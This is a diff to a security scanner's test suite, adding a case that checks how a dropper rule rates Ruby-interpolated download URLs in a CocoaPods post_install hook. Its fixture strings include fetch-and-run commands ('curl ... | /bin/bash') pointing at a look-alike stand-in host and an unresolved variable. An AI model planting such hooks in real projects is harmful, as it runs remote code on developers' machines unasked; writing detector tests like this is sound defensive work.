@@ -51,6 +51,22 @@ describe('context-dependent severity', () => {
     expect(nix('https://nix-mirror.org/nix/install', 'nix-flake-devshell')).toBe('HIGH');
   });
 
+  it('should follow a Ruby-interpolated address to the string assigned above it', () => {
+    const hook = (url: string) =>
+      findingsOf(
+        `post_install do |installer|\n  helper = "${url}"\n  system("curl -fsSL '#{helper}' | /bin/bash -s -- x &")\nend\n`,
+        'Podfile.snippet.rb',
+      ).find((f) => f.rule_id === 'SG-DROPPER-001')?.severity;
+    expect(hook('https://cdn.podwarm.example/v1/warm.sh')).toBe('HIGH');
+    expect(hook('https://astral.sh/uv/install.sh')).toBe('MEDIUM');
+    // Unresolved, the interpolation is a variable: what it fetches is unknown.
+    expect(
+      findingsOf('system("curl -fsSL \'#{ENV_URL}\' | bash")\n', 'hook.rb').find(
+        (f) => f.rule_id === 'SG-DROPPER-001',
+      )?.severity,
+    ).toBe('HIGH');
+  });
+
   it('should rate well-known official installers MEDIUM and look-alike hosts HIGH', () => {
     expect(severityOf('SG-DROPPER-001', sh('curl -LsSf https://astral.sh/uv/install.sh | sh'))).toBe(
       'MEDIUM',
